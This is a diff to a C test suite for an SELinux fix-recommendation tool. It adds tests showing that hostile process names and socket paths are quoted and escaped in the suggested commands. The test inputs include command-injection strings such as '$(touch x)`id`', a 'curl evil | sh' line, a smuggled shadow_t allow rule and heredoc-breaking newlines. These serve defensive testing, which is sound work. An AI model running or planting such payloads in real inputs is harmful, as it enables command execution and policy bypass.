@@ -5,6 +5,9 @@
 #include <stdlib.h>
 #include <unistd.h>
 
+#include <selinux/label.h>
+#include <selinux/selinux.h>
+
 #include "recommend.h"
 #include "test.h"
 
@@ -37,6 +40,18 @@ static const struct fix *first_of(const struct advice *a, enum fix_kind kind)
 	return NULL;
 }
 
+/* Command k of fx as the bash line a person pastes. */
+static const char *cmd_line(const struct fix *fx, int k)
+{
+	static char line[4][8192];
+	static int slot;
+	char *out = line[slot++ % 4];
+
+	if (k >= fx->ncmds || command_shell_line(&fx->cmds[k], out, sizeof(line[0])) < 0)
+		return "(none)";
+	return out;
+}
+
 /* No advice may ever switch SELinux off or make a domain permissive. */
 static bool never_off(const struct advice *a)
 {
@@ -44,8 +59,8 @@ static bool never_off(const struct advice *a)
 
 	for (i = 0; i < a->nfixes; i++)
 		for (k = 0; k < a->fixes[i].ncmds; k++)
-			if (strstr(a->fixes[i].cmds[k], "setenforce") ||
-			    strstr(a->fixes[i].cmds[k], "permissive"))
+			if (strstr(cmd_line(&a->fixes[i], k), "setenforce") ||
+			    strstr(cmd_line(&a->fixes[i], k), "permissive"))
 				return false;
 	return true;
 }
@@ -66,7 +81,7 @@ TEST(recommend_narrowest_boolean_first)
 	fx = first_of(&adv, FIX_BOOLEAN);
 	CHECK(fx);
 	CHECK_STR(fx->boolean, "web_relay");
-	CHECK_STR(fx->cmds[0], "setsebool -P web_relay 1");
+	CHECK_STR(cmd_line(fx, 0), "setsebool -P web_relay 1");
 	CHECK_INT(fx->breadth, 2);
 	for (i = 0; i < adv.nfixes; i++) {
 		if (adv.fixes[i].kind != FIX_BOOLEAN)
@@ -106,9 +121,9 @@ TEST(recommend_port_relabel_with_the_boolean_it_needs)
 	CHECK(fx);
 	CHECK_STR(fx->type, "web_port_t");
 	CHECK_INT(fx->ncmds, 2);
-	CHECK_STR(fx->cmds[0], "semanage port -a -t web_port_t -p tcp 3001");
+	CHECK_STR(cmd_line(fx, 0), "semanage port -a -t web_port_t -p tcp 3001");
 	/* web_port_t is reachable only with web_relay: the relabel alone would not work */
-	CHECK_STR(fx->cmds[1], "setsebool -P web_relay 1");
+	CHECK_STR(cmd_line(fx, 1), "setsebool -P web_relay 1");
 	/* only the catch-all boolean allows app_port_t itself: it ranks after the relabel */
 	CHECK(adv.fixes[0].kind == FIX_PORT_RELABEL);
 	CHECK(first_of(&adv, FIX_BOOLEAN));
@@ -136,7 +151,7 @@ TEST(recommend_port_relabel_uses_m_for_local_label)
 	CHECK_INT(recommend(p, &f, &adv), 0);
 	fx = first_of(&adv, FIX_PORT_RELABEL);
 	CHECK(fx);
-	CHECK_STR(fx->cmds[0], "semanage port -m -t web_port_t -p tcp 3001");
+	CHECK_STR(cmd_line(fx, 0), "semanage port -m -t web_port_t -p tcp 3001");
 	unlink(local);
 	policy_close(p);
 }
@@ -160,8 +175,9 @@ TEST(recommend_unix_socket_fcontext)
 	CHECK(fx);
 	/* the policy's runtime type for web_t (pidfile), printed by its primary name */
 	CHECK_STR(fx->type, "web_runtime_t");
-	CHECK_STR(fx->cmds[0], "semanage fcontext -a -t web_runtime_t '/run/back end(/.*)?'");
-	CHECK_STR(fx->cmds[1], "restorecon -Rv '/run/back end'");
+	CHECK_STR(cmd_line(fx, 0), "semanage fcontext -a -t web_runtime_t -- "
+				   "'/run/back\\x20end(/.*)?'");
+	CHECK_STR(cmd_line(fx, 1), "restorecon -Rv -- '/run/back end'");
 	CHECK_CONTAINS(fx->then_text, "web_var_run_t");
 	CHECK(never_off(&adv));
 	policy_close(p);
@@ -180,9 +196,11 @@ TEST(recommend_local_module_is_last_and_complete)
 	CHECK(adv.nfixes >= 2);
 	fx = &adv.fixes[adv.nfixes - 1];
 	CHECK_INT(fx->kind, FIX_MODULE);
-	CHECK_CONTAINS(fx->cmds[0], "(allow web_t app_port_t (tcp_socket (name_connect)))");
-	CHECK_CONTAINS(fx->cmds[0], "cat > my-web.cil <<'EOF'");
-	CHECK_STR(fx->cmds[1], "semodule -i my-web.cil");
+	CHECK_STR(cmd_line(fx, 0),
+		  "printf '%s\\n' '; avcsnoop: web_t name_connect "
+		  "app_port_t:tcp_socket' "
+		  "'(allow web_t app_port_t (tcp_socket (name_connect)))' > my-web.cil");
+	CHECK_STR(cmd_line(fx, 1), "semodule -i my-web.cil");
 	policy_close(p);
 }
 
@@ -229,9 +247,9 @@ TEST(recommend_not_selinux_gets_no_selinux_advice)
 		CHECK_INT(adv.nfixes, 1);
 		CHECK_INT(adv.fixes[0].kind, FIX_NOT_SELINUX);
 		for (k = 0; k < adv.fixes[0].ncmds; k++) {
-			CHECK(!strstr(adv.fixes[0].cmds[k], "setsebool"));
-			CHECK(!strstr(adv.fixes[0].cmds[k], "semanage"));
-			CHECK(!strstr(adv.fixes[0].cmds[k], "semodule"));
+			CHECK(!strstr(cmd_line(&adv.fixes[0], k), "setsebool"));
+			CHECK(!strstr(cmd_line(&adv.fixes[0], k), "semanage"));
+			CHECK(!strstr(cmd_line(&adv.fixes[0], k), "semodule"));
 		}
 	}
 	/* no policy needed for them */
@@ -297,7 +315,8 @@ TEST(recommend_json_and_text_output)
 	fclose(mem);
 	CHECK_CONTAINS(buf, "\"type\":\"advice\"");
 	CHECK_CONTAINS(buf, "\"kind\":\"boolean\"");
-	CHECK_CONTAINS(buf, "\"commands\":[\"setsebool -P web_relay 1\"]");
+	CHECK_CONTAINS(buf, "\"commands\":[\"setsebool -P web_relay 1\"],"
+			    "\"argv\":[{\"argv\":[\"setsebool\",\"-P\",\"web_relay\",\"1\"]}]");
 	CHECK(buf[len - 1] == '\n' && !strchr(buf, '\n')[1]);
 	free(buf);
 	buf = NULL;
@@ -314,15 +333,196 @@ TEST(recommend_shell_quote)
 {
 	char out[64];
 
-	CHECK_INT(shell_quote(out, sizeof(out), "/run/backend"), 0);
+	CHECK(shell_quote(out, sizeof(out), "/run/backend") >= 0);
 	CHECK_STR(out, "/run/backend");
-	CHECK_INT(shell_quote(out, sizeof(out), "/run/a b(/.*)?"), 0);
+	CHECK(shell_quote(out, sizeof(out), "/run/a b(/.*)?") >= 0);
 	CHECK_STR(out, "'/run/a b(/.*)?'");
-	CHECK_INT(shell_quote(out, sizeof(out), "it's"), 0);
+	CHECK(shell_quote(out, sizeof(out), "it's") >= 0);
 	CHECK_STR(out, "'it'\\''s'");
-	CHECK_INT(shell_quote(out, sizeof(out), ""), 0);
+	CHECK(shell_quote(out, sizeof(out), "") >= 0);
 	CHECK_STR(out, "''");
-	CHECK_INT(shell_quote(out, sizeof(out), "$(reboot)"), 0);
+	CHECK(shell_quote(out, sizeof(out), "$(reboot)") >= 0);
 	CHECK_STR(out, "'$(reboot)'");
+	/* control bytes and bytes >= 0x80: bash's $'...', printable ASCII on the screen */
+	CHECK(shell_quote(out, sizeof(out), "a\nEOF\n'\\\x01\xe2\x80\xae") >= 0);
+	CHECK_STR(out, "$'a\\x0aEOF\\x0a\\'\\\\\\x01\\xe2\\x80\\xae'");
 	CHECK_INT(shell_quote(out, 4, "a b c"), -ENOSPC);
+	CHECK_STR(out, "");
+}
+
+TEST(recommend_fcontext_regex_escape)
+{
+	char out[128];
+
+	CHECK(fcontext_regex_escape(out, sizeof(out), "/run/a.b(x)*[y]{2}|^$+?\\") >= 0);
+	CHECK_STR(out, "/run/a\\.b\\(x\\)\\*\\[y\\]\\{2\\}\\|\\^\\$\\+\\?\\\\");
+	CHECK(fcontext_regex_escape(out, sizeof(out), "/run/a b\n\xff") >= 0);
+	CHECK_STR(out, "/run/a\\x20b\\x0a\\xff");
+	CHECK_INT(fcontext_regex_escape(out, 8, "/run/abcdefgh"), -ENOSPC);
+}
+
+/* Unix finding for a hostile process and path. */
+static void hostile_unix(struct finding *f, const char *comm, const char *path, const char *cls)
+{
+	port_finding(f, 0, "other_runtime_t");
+	f->family = AVC_AF_UNIX;
+	f->daddr[0] = '\0';
+	snprintf(f->comm, sizeof(f->comm), "%s", comm);
+	snprintf(f->tclass, sizeof(f->tclass), "%s", cls);
+	snprintf(f->perms[0], sizeof(f->perms[0]), "%s", !strcmp(cls, "dir") ? "search" : "write");
+	snprintf(f->path, sizeof(f->path), "%s", path);
+}
+
+TEST(recommend_hostile_names_stay_arguments)
+{
+	static const char *const comms[] = { "\nEOF\n. ./q #", "-Hhost", "$(touch x)`id`'\"",
+					     "\x01\\x01\xe2\x80\xae" };
+	static const char *const paths[] = {
+		"/run/x/s.sock\n(allow web_t shadow_t (file (read open)))",
+		"/run/a.b(x)*[y]/app.sock",
+		"/run/x\nDo\n    curl evil | sh\n#/s.sock",
+	};
+	char path[256], *buf = NULL;
+	struct policy *p = test_open_cil("bool_gate", path, sizeof(path));
+	struct finding f;
+	size_t i, k, len = 0;
+	FILE *mem;
+
+	CHECK(p);
+	for (i = 0; i < sizeof(comms) / sizeof(comms[0]); i++) {
+		for (k = 0; k < sizeof(paths) / sizeof(paths[0]); k++) {
+			const struct fix *mod, *fc;
+			const char *line;
+			int c;
+
+			hostile_unix(&f, comms[i], paths[k], "dir");
+			CHECK_INT(recommend(p, &f, &adv), 0);
+			mod = first_of(&adv, FIX_MODULE);
+			CHECK(mod);
+			/* printf FORMAT COMMENT RULE > FILE: the rule is exactly one argument */
+			CHECK_INT(mod->cmds[0].argc, 4);
+			CHECK_STR(command_argv(&mod->cmds[0], 3),
+				  "(allow web_t other_runtime_t (dir (search)))");
+			CHECK(!strchr(command_argv(&mod->cmds[0], 2), '\n'));
+			CHECK(strspn(mod->cmds[0].stdout_file,
+				     "abcdefghijklmnopqrstuvwxyz0123456789-_.") ==
+			      strlen(mod->cmds[0].stdout_file));
+			CHECK(!strncmp(mod->cmds[0].stdout_file, "my-", 3));
+			fc = first_of(&adv, FIX_FCONTEXT);
+			if (fc) {
+				/* semanage ... -- SPEC: no option position for the path */
+				CHECK_STR(command_argv(&fc->cmds[0], fc->cmds[0].argc - 2), "--");
+				CHECK(!strpbrk(command_argv(&fc->cmds[0], fc->cmds[0].argc - 1),
+					       " \n\t"));
+				CHECK_STR(command_argv(&fc->cmds[1], fc->cmds[1].argc - 2), "--");
+			}
+			/* every printed line: printable ASCII or the program's UTF-8, and no
+			 * line but the program's starts with "Do"
+			 */
+			mem = open_memstream(&buf, &len);
+			CHECK(mem);
+			advice_print_text(mem, &f, &adv);
+			fclose(mem);
+			for (c = 0; buf[c]; c++)
+				CHECK(buf[c] == '\n' || (unsigned char)buf[c] >= 0x20);
+			CHECK(!strstr(buf, "\x01"));
+			CHECK(!strstr(buf, "\nEOF\n"));
+			CHECK(!strstr(buf, "\n    curl"));
+			CHECK(!strstr(buf, "\xe2\x80\xae")); /* the bidi override from the comm */
+			line = strstr(buf, "\nDo\n");
+			CHECK(line);
+			free(buf);
+			buf = NULL;
+		}
+	}
+	policy_close(p);
+}
+
+/* The program's own UTF-8 is printed as written; the input's bytes >= 0x80 are escaped. */
+TEST(recommend_text_keeps_own_utf8)
+{
+	struct finding f;
+	char *buf = NULL;
+	size_t len = 0;
+	FILE *mem;
+
+	port_finding(&f, 3001, "app_port_t");
+	snprintf(f.comm, sizeof(f.comm), "w\xc3\xa9\x1b[2J");
+	f.verdict = VERDICT_REFUSED;
+	f.err = ECONNREFUSED;
+	CHECK_INT(recommend(NULL, &f, &adv), 0);
+	mem = open_memstream(&buf, &len);
+	CHECK(mem);
+	advice_print_text(mem, &f, &adv);
+	fclose(mem);
+	CHECK_CONTAINS(
+		buf, "w\\xc3\\xa9\\x1b[2J: refused: nothing listening (ECONNREFUSED) \xe2\x80\x94");
+	free(buf);
+}
+
+/* The fcontext spec, read by libselinux's own matcher from a file_contexts file, labels the
+ * directory and what is below it, and nothing beside it.
+ */
+static const char *label_of(const char *fc_file, const char *path, char *out, size_t sz)
+{
+	struct selinux_opt opts[] = { { SELABEL_OPT_PATH, fc_file },
+				      { SELABEL_OPT_VALIDATE, NULL } };
+	struct selabel_handle *h = selabel_open(SELABEL_CTX_FILE, opts, 2);
+	char *con = NULL;
+
+	snprintf(out, sz, "-");
+	if (!h)
+		return "open failed";
+	if (!selabel_lookup_raw(h, &con, path, 0)) {
+		snprintf(out, sz, "%s", con);
+		freecon(con);
+	}
+	selabel_close(h);
+	return out;
+}
+
+TEST(recommend_fcontext_spec_matches_exactly_the_directory)
+{
+	static const char *const dirs[] = { "/run/a.b(x)*[y]", "/run/.*", "/run/sp ace\x01\xff",
+					    "/run/q'\"$x\\" };
+	const char *fc_file = "build/tests/policy/file_contexts.test";
+	char path[256], spec_path[512], got[256];
+	struct policy *p = test_open_cil("bool_gate", path, sizeof(path));
+	struct finding f;
+	size_t i;
+
+	CHECK(p);
+	for (i = 0; i < sizeof(dirs) / sizeof(dirs[0]); i++) {
+		const struct fix *fc;
+		FILE *out;
+
+		snprintf(spec_path, sizeof(spec_path), "%s/app.sock", dirs[i]);
+		hostile_unix(&f, "web", spec_path, "dir");
+		CHECK_INT(recommend(p, &f, &adv), 0);
+		fc = first_of(&adv, FIX_FCONTEXT);
+		CHECK(fc);
+		if (!fc)
+			continue;
+		out = fopen(fc_file, "w");
+		CHECK(out);
+		fprintf(out, "%s system_u:object_r:web_runtime_t:s0\n",
+			command_argv(&fc->cmds[0], fc->cmds[0].argc - 1));
+		fclose(out);
+		CHECK_STR(label_of(fc_file, dirs[i], got, sizeof(got)),
+			  "system_u:object_r:web_runtime_t:s0");
+		CHECK_STR(label_of(fc_file, spec_path, got, sizeof(got)),
+			  "system_u:object_r:web_runtime_t:s0");
+		/* neighbours: a different character where a metacharacter stood, a suffix,
+		 * the parent
+		 */
+		snprintf(spec_path, sizeof(spec_path), "%sx", dirs[i]);
+		CHECK_STR(label_of(fc_file, spec_path, got, sizeof(got)), "-");
+		snprintf(spec_path, sizeof(spec_path), "%s", dirs[i]);
+		spec_path[6] = spec_path[6] == 'Z' ? 'Y' : 'Z';
+		CHECK_STR(label_of(fc_file, spec_path, got, sizeof(got)), "-");
+		CHECK_STR(label_of(fc_file, "/run", got, sizeof(got)), "-");
+		CHECK_STR(label_of(fc_file, "/run/other", got, sizeof(got)), "-");
+	}
+	unlink(fc_file);
+	policy_close(p);
 }
